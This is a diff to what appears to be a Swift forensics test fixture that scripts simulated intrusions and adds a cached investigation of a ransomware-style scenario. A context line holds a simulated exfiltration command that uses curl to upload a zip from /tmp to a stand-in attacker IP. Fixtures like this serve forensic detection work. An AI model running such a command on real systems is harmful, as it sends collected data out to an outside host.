@@ -1,3 +1,4 @@
+import Forensics
 import Tables
 
 /// Estates that were broken into, each in its own way, in three weeks of ordinary noise.
@@ -51,6 +52,9 @@ enum Intrusions {
         script.start(t + 4, below: shell, "/usr/bin/curl", "curl -F file=@/tmp/out.zip http://203.0.113.44/up")
         return script
     }
+
+    /// What an investigation of `encryption()` finds; it is asked for often, and takes seconds.
+    static let encryptionFound: Result<Investigation, any Error> = Result { try encryption().investigate() }
 
     /// Mail, a stolen administrator, remote service execution, and encryption of two servers.
     static func encryption() -> EstateScript {
